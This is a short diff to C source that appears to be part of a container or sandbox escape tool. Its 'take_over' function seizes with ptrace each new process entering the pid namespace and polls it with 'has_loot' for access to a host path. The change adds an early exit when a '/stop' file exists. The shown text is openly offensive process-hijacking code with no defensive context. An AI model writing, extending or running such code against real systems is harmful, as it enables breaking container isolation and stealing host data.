@@ -251,12 +251,12 @@ static int has_loot(int pid, const char *host_path, long size, int is_ours)
     return found;
 }
 
-// Takes over each process that comes into this pid namespace, as soon as it can, and looks at what it has.
+// Takes over each process that comes into this pid namespace, as soon as it can, and looks at what it has. Ends early when there is a file /stop.
 static int take_over(const char *host_path, long size, int seconds)
 {
     time_t end = time(0) + seconds;
     int next = getpid() + 1, found = 0, seen = 0, taken = 0;
-    while (time(0) < end)
+    while (time(0) < end && access("/stop", F_OK))
         for (int pid = next; pid < next + 4; pid++) {
             int is_ours = !ptrace(PTRACE_SEIZE, pid, 0, 0);
             if (!is_ours && errno == ESRCH)
@@ -272,7 +272,7 @@ static int take_over(const char *host_path, long size, int seconds)
                 ptrace(PTRACE_DETACH, pid, 0, 0);
                 continue;
             }
-            for (int i = 0; i < 2000 && !kill(pid, 0); i++, usleep(1000)) // perhaps later
+            for (int i = 0; i < 2000 && !kill(pid, 0) && access("/stop", F_OK); i++, usleep(1000)) // perhaps later
                 if (has_loot(pid, host_path, size, 0) && (found = 1))
                     break;
         }
